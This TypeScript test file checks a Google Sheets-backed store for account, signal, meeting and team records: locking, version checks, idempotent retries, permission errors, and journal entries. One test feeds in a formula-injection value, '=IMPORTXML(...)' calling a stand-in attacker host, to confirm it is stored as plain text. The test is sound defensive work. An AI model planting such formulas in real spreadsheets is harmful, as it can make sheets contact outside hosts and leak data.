import { Fault } from '../../src/fault';
import { derivedTabs, tabs } from '../../src/store/tables';
import type { Change, Plan, Workbook } from '../../src/store/workbook';
import { aContact, aMeasure, aMeeting, anAccount, anActivity, aSignal, aTeammate, monday9 } from '../support/builders';
import { grids } from '../support/grids';
import { refused } from '../support/memory-grid';
import { aSetUpBench, type Bench } from '../support/store';
import type { TestGrid } from '../support/test-grid';

const by = { by: 'mina@orbit.example', at: monday9, action: 'flagSignal' } as const;
const acme = anAccount();
const zeta = anAccount({ id: 'acc_zeta', name: 'Zeta', domains: ['zeta.example'] });
const signal = aSignal();
const action: Plan = { account: 'acc_acme', tables: ['signals'], freshTeam: true };

function aFilledBench(grid: TestGrid): Bench {
  const bench = aSetUpBench(grid);
  bench.open().save({ ...by, action: 'import', add: { accounts: [zeta, acme] } });
  bench.open().rebuild(monday9);
  bench.open().load({ account: 'acc_acme' });
  return bench;
}

/** One click: read under the lock, then write. */
function click(bench: Bench, plan: Plan, change: Partial<Change>): void {
  const workbook = bench.open();
  workbook.locked(() => {
    workbook.load({ ...plan, freshTeam: true });
    workbook.save({ ...by, ...change });
  });
}

function codeOf(work: () => void): string {
  try {
    work();
  } catch (thrown) {
    return thrown instanceof Fault ? thrown.code : String(thrown);
  }
  return 'none';
}

const rowsOf = (bench: Bench, tab: keyof typeof tabs) => bench.grid.cells(tabs[tab].sheetId).slice(2);
const column = (tab: 'accounts' | 'signals' | 'team', key: string) => (bench: Bench) =>
  bench.grid.cells(tabs[tab].sheetId)[0]?.indexOf(key) ?? -1;
/** Without the lines of setting up and of the two imported accounts. */
const journal = (bench: Bench) =>
  rowsOf(bench, 'journal')
    .slice(3)
    .map(([, by, action, table, id, before, after]) => [by, action, table, id, before, after]);

describe.each(grids)('saving %s', (_place, makeGrid) => {
  test('takes one read and one write for an action', () => {
    const bench = aFilledBench(makeGrid());
    const change = {
      add: { signals: [signal], activities: [anActivity()] },
      links: [{ key: 'msg:1', account: 'acc_acme' as const }],
    };
    expect(bench.calls(() => click(bench, { ...action, find: ['msg:1'] }, change))).toEqual({ reads: 1, writes: 1 });
  });

  test('shows the rows on their tabs, in the dossier and in the index', () => {
    const bench = aFilledBench(makeGrid());
    click(
      bench,
      { ...action, find: ['msg:1'] },
      {
        add: { signals: [signal], activities: [anActivity()] },
        links: [{ key: 'msg:1', account: 'acc_acme' }],
      },
    );
    const snapshot = bench.open().load({ ...action, find: ['msg:1'] });
    expect([snapshot.table('signals'), snapshot.dossier?.signals, snapshot.dossier?.activities, snapshot.hits]).toEqual(
      [[signal], [signal], [anActivity()], [{ key: 'msg:1', account: 'acc_acme' }]],
    );
    expect(rowsOf(bench, 'signals')[0]?.[0]).toBe('Acme Robotics');
  });

  test('raises the version and writes only what differs, so that other cells of the row stay as people left them', () => {
    const bench = aFilledBench(makeGrid());
    bench.grid.set(tabs.accounts.sheetId, 3, column('accounts', 'domains')(bench), 'ACME.example');
    const before = bench.open().load(action).account;
    click(bench, action, { update: { accounts: [{ ...acme, ...before, plan: 'Enterprise' }] } });
    expect(bench.open().load(action).account).toEqual({ ...acme, plan: 'Enterprise', rev: 2 });
    expect(bench.grid.cells(tabs.accounts.sheetId)[3]?.[column('accounts', 'domains')(bench)]).toBe('ACME.example');
    expect(journal(bench)).toEqual([
      ['mina@orbit.example', 'flagSignal', 'accounts', 'acc_acme', '{"plan":"Growth"}', '{"plan":"Enterprise"}'],
    ]);
  });

  test('leaves a row alone that is as it shall be', () => {
    const bench = aFilledBench(makeGrid());
    expect(bench.calls(() => click(bench, action, { update: { accounts: [acme] } }))).toEqual({ reads: 1, writes: 0 });
  });

  test('refuses a row that somebody changed meanwhile, and writes nothing of the change', () => {
    const bench = aFilledBench(makeGrid());
    const stale = { ...acme, rev: 7, plan: 'Enterprise' };
    expect(codeOf(() => click(bench, action, { add: { signals: [signal] }, update: { accounts: [stale] } }))).toBe(
      'stale-row',
    );
    expect([rowsOf(bench, 'signals'), journal(bench)]).toEqual([[], []]);
  });

  test('refuses a row that is not there', () => {
    const bench = aFilledBench(makeGrid());
    expect(codeOf(() => click(bench, action, { update: { signals: [signal] } }))).toBe('missing-row');
  });

  test('adds nothing twice when a click comes again', () => {
    const bench = aFilledBench(makeGrid());
    const change = { add: { signals: [signal], activities: [anActivity()] } };
    click(bench, action, change);
    expect(bench.calls(() => click(bench, action, change))).toEqual({ reads: 1, writes: 0 });
    expect([rowsOf(bench, 'signals').length, rowsOf(bench, 'activities').length, journal(bench).length]).toEqual([
      1, 1, 2,
    ]);
  });

  test('adds nothing twice when the answer of the first try was lost', () => {
    const bench = aFilledBench(makeGrid());
    const workbook = bench.open();
    workbook.load(action);
    bench.grid.fail('lost');
    expect(codeOf(() => workbook.save({ ...by, add: { signals: [signal] } }))).toBe('google-refused');
    click(bench, action, { add: { signals: [signal] } });
    expect(rowsOf(bench, 'signals').length).toBe(1);
  });

  test('applies nothing when Google refuses', () => {
    const bench = aFilledBench(makeGrid());
    const workbook = bench.open();
    workbook.load(action);
    bench.grid.fail(refused(403, 'The caller does not have permission'));
    expect(codeOf(() => workbook.save({ ...by, add: { signals: [signal] } }))).toBe('no-access');
    expect([rowsOf(bench, 'signals'), bench.open().load(action).dossier?.signals]).toEqual([[], []]);
  });

  test('finds its row after somebody sorted the tab between two clicks', () => {
    const bench = aFilledBench(makeGrid());
    click(bench, action, { add: { signals: [signal, aSignal({ id: 'sig_2', need: 'A second lab' })] } });
    bench.grid.sort(tabs.signals.sheetId, column('signals', 'need')(bench));
    bench.grid.insertColumn(tabs.signals.sheetId, 2);
    click(bench, action, { update: { signals: [{ ...signal, state: 'acknowledged' }] } });
    const snapshot = bench.open().load(action);
    expect(snapshot.table('signals').map(({ id, state, rev }) => [id, state, rev])).toEqual([
      ['sig_2', 'submitted', 1],
      ['sig_1', 'acknowledged', 2],
    ]);
    expect(snapshot.dossier?.signals.map(({ id, state }) => [id, state])).toEqual([
      ['sig_2', 'submitted'],
      ['sig_1', 'acknowledged'],
    ]);
  });

  test('keeps the columns that people added, and what they hold', () => {
    const bench = aFilledBench(makeGrid());
    bench.grid.insertColumn(tabs.accounts.sheetId, 0);
    bench.grid.set(tabs.accounts.sheetId, 3, 0, 'our own');
    click(bench, action, { update: { accounts: [{ ...acme, plan: 'Enterprise' }] } });
    expect(bench.grid.cells(tabs.accounts.sheetId)[3]?.[0]).toBe('our own');
  });

  test('writes a text that looks like a formula as text', () => {
    const bench = aFilledBench(makeGrid());
    click(bench, action, { add: { signals: [aSignal({ need: '=IMPORTXML("http://evil.example")' })] } });
    const sent = JSON.stringify(bench.grid.calls.requests);
    expect(sent.includes('formulaValue')).toBe(false);
    expect(bench.open().load(action).table('signals')[0]?.need).toBe('=IMPORTXML("http://evil.example")');
  });
});

describe.each(grids)('two writes of one execution %s', (_place, makeGrid) => {
  test('need no read between them: a sync is reserved, then booked', () => {
    const bench = aFilledBench(makeGrid());
    const plan: Plan = { account: 'acc_acme', tables: ['meetings'], freshTeam: true };
    const meeting = aMeeting({ account: 'acc_acme', state: 'reserved' });
    const book = (workbook: Workbook) => {
      workbook.load(plan);
      workbook.save({ ...by, add: { meetings: [meeting] } });
      workbook.save({ ...by, update: { meetings: [{ ...meeting, state: 'booked', eventId: 'pair1' }] } });
    };
    expect(
      bench.calls(() => {
        const workbook = bench.open();
        workbook.locked(() => book(workbook));
      }),
    ).toEqual({ reads: 1, writes: 2 });
    const snapshot = bench.open().load(plan);
    const booked = { ...meeting, rev: 2, state: 'booked', eventId: 'pair1' };
    expect([snapshot.table('meetings'), snapshot.dossier?.meetings]).toEqual([[booked], [booked]]);
  });

  test('follow the account as the first one left it', () => {
    const bench = aFilledBench(makeGrid());
    const workbook = bench.open();
    workbook.load(action);
    workbook.save({ ...by, update: { accounts: [{ ...acme, plan: 'A' }] } });
    workbook.save({ ...by, update: { accounts: [{ ...acme, rev: 2, plan: 'B' }] } });
    expect(bench.open().load(action).account).toEqual({ ...acme, rev: 3, plan: 'B' });
  });
});

describe.each(grids)('a rebuild under a lock that is held %s', (_place, makeGrid) => {
  test('goes on under the same lock', () => {
    const bench = aFilledBench(makeGrid());
    const workbook = bench.open();
    expect(workbook.locked(() => workbook.rebuild(monday9)).accounts).toBe(2);
  });
});

describe.each(grids)('what follows from a change %s', (_place, makeGrid) => {
  test('marks the health of the account on its row', () => {
    const bench = aFilledBench(makeGrid());
    click(bench, action, { add: { measures: [aMeasure()] } });
    expect(
      bench
        .open()
        .load({ accountColumns: ['name', 'healthScore', 'healthBand'] })
        .accountList(['name', 'healthScore', 'healthBand']),
    ).toEqual([
      { name: 'Zeta', healthScore: undefined, healthBand: 'insufficient' },
      { name: 'Acme Robotics', healthScore: 80, healthBand: 'healthy' },
    ]);
  });

  test('leads an address to its account from the next mail on, and one of nobody to nobody', () => {
    const bench = aFilledBench(makeGrid());
    const find = ['jana@gmail.com', 'spam@else.example'];
    bench.open().load({ find });
    click(
      bench,
      { ...action, find: ['jana@gmail.com'] },
      {
        add: { contacts: [aContact({ email: 'jana@gmail.com' })] },
        links: [{ key: 'jana@gmail.com', account: 'acc_acme' }],
      },
    );
    click(
      bench,
      { find: ['spam@else.example'] },
      {
        add: { contacts: [aContact({ id: 'con_2', account: '', email: 'spam@else.example' })] },
        links: [{ key: 'spam@else.example', account: '' }],
      },
    );
    const hits = [
      { key: 'jana@gmail.com', account: 'acc_acme' },
      { key: 'spam@else.example', account: '' },
    ];
    const warm = bench.open().load({ find, account: 'found' });
    bench.cache.clear();
    const cold = bench.open().load({ find, account: 'found' });
    bench.open().rebuild(monday9);
    const rebuilt = bench.open().load({ find, account: 'found', freshTeam: true });
    expect([warm.hits, cold.hits, rebuilt.hits, cold.account]).toEqual([hits, hits, hits, acme]);
  });

  test('gives an account without a dossier one, in the same write', () => {
    const bench = aSetUpBench(makeGrid());
    bench.open().save({ ...by, add: { accounts: [zeta, acme] } });
    click(bench, action, { add: { signals: [signal] } });
    click(
      bench,
      { ...action, account: 'acc_zeta' },
      { add: { signals: [aSignal({ id: 'sig_2', account: 'acc_zeta' })] } },
    );
    expect(bench.grid.cells(derivedTabs.dossiers).map((cells) => cells[0])).toEqual([
      'account',
      'acc_acme',
      'acc_zeta',
    ]);
    expect(bench.open().load(action).dossier?.signals).toEqual([signal]);
  });

  test('shows a change of team and settings to everybody at once', () => {
    const bench = aFilledBench(makeGrid());
    bench.open().load({});
    click(bench, {}, { settings: { bufferMinutes: 15, freeDomains: ['mail.example'] }, add: { team: [aTeammate()] } });
    const { settings, team } = bench.open().load({});
    expect([settings.bufferMinutes, settings.freeDomains, team.map(({ email }) => email)]).toEqual([
      15,
      ['mail.example'],
      ['somchai@orbit.example', 'mina@orbit.example'],
    ]);
  });

  test('finds a teammate whose address somebody typed in capitals', () => {
    const bench = aFilledBench(makeGrid());
    click(bench, {}, { add: { team: [aTeammate()] } });
    bench.grid.set(tabs.team.sheetId, 3, 0, 'Mina@Orbit.Example');
    click(bench, {}, { update: { team: [aTeammate({ role: 'lead' })] } });
    expect(
      bench
        .open()
        .load({ freshTeam: true })
        .team.map(({ role, rev }) => [role, rev]),
    ).toEqual([
      ['admin', 1],
      ['lead', 2],
    ]);
  });

  test('tells an import of many rows to the journal in one line', () => {
    const bench = aSetUpBench(makeGrid());
    const accounts = Array.from({ length: 60 }, (_, at) => anAccount({ id: `acc_${at}`, domains: [] }));
    bench.open().save({ ...by, action: 'import', add: { accounts } });
    expect(
      rowsOf(bench, 'journal')
        .slice(1)
        .map((cells) => cells.slice(2)),
    ).toEqual([['import', 'accounts', '*', '', '{"rows":60}']]);
  });
});
